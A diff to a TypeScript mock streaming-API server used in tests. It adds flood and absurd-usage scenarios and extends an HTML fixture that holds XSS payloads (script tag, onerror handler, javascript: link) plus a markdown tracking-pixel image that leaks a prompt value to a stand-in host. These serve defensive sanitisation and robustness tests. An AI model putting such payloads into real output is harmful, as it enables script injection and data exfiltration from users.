@@ -4,6 +4,9 @@
  * content and reasoning deltas, a usage chunk with `cost` and empty `choices`, `[DONE]`) and every
  * failure the trial must handle.
  *
+ * The flood scenarios stream until the client hangs up, as a runaway server would: batches of 20,000
+ * non-JSON lines, one 5.5 MB event, or 200 chunks a second; the trial must stay responsive to Stop.
+ *
  * The scenario is chosen by the model id ("test/fail-401") or, for a fixed model such as a card's,
  * by a `scenario:<name>` word in the last user message. Every request is recorded with its
  * Authorization header and Origin, so tests can check where the key went.
@@ -36,6 +39,10 @@ export const SCENARIOS = [
   'fail-502',
   'fail-503',
   'fail-502-html',
+  'absurd-usage',
+  'flood-lines',
+  'flood-big',
+  'flood-fast',
 ] as const;
 export type Scenario = (typeof SCENARIOS)[number];
 
@@ -69,7 +76,14 @@ export const FIXTURE = {
   dropText: 'The connection will drop after this',
   badLine: 'this line is not JSON',
   htmlText:
-    'Look: <script>window.__xss = "script"</script> and <img src="x" onerror="window.__xss = \'img\'"> and [a link](javascript:window.__xss=\'link\') end.',
+    'Look: <script>window.__xss = "script"</script> and <img src="x" onerror="window.__xss = \'img\'"> and [a link](javascript:window.__xss=\'link\') and ![tracking pixel](https://images.example/pixel.png?prompt=secret) end.',
+  /** The absurd-usage scenario's counts, written as raw JSON: 1e400 parses as Infinity. */
+  absurdUsageJson: '{"prompt_tokens":21,"completion_tokens":1e400,"total_tokens":1e400,"cost":0.00002134}',
+  floodLinesPerBatch: 20_000,
+  floodBigEventBytes: 5_500_000,
+  floodChunksPerSecond: 200,
+  /** One flood-fast chunk: markdown with a paragraph break, so the answer grows by whole blocks. */
+  floodChunk: 'Some **bold** words and `code` in a sentence that keeps going, then a list:\n\n- one\n- two\n\n',
   slowDeltaCount: 80,
   slowDeltaMs: 100,
   retryAfterSeconds: 7,
@@ -280,6 +294,24 @@ async function respond(req: IncomingMessage, res: ServerResponse, body: unknown)
     case 'ended-early':
       await write(delta({ content: FIXTURE.dropText }), 50);
       res.end();
+      return;
+    case 'absurd-usage':
+      for (const d of FIXTURE.okDeltas) await write(delta({ content: d }));
+      await write(delta({}, 'stop'));
+      await write(`data: {"id":"gen-test-1","model":${JSON.stringify(model)},"choices":[],"usage":${FIXTURE.absurdUsageJson}}\n\n`);
+      break;
+    case 'flood-lines':
+      while (!closed) {
+        await write(delta({ content: 'still here ' }), 0);
+        await write(Array.from({ length: FIXTURE.floodLinesPerBatch }, (_, i) => `data: not json ${i}\n\n`).join(''), 100);
+      }
+      return;
+    case 'flood-big':
+      await write(delta({ content: `${'Lorem ipsum dolor sit amet. '.repeat(FIXTURE.floodBigEventBytes / 28)}` }), 50);
+      while (!closed) await write(delta({ content: ' and more' }), 20);
+      return;
+    case 'flood-fast':
+      while (!closed) await write(delta({ content: FIXTURE.floodChunk }), 1000 / FIXTURE.floodChunksPerSecond);
       return;
     case 'bad-line':
       await write(delta({ content: FIXTURE.okDeltas[0] ?? '' }));
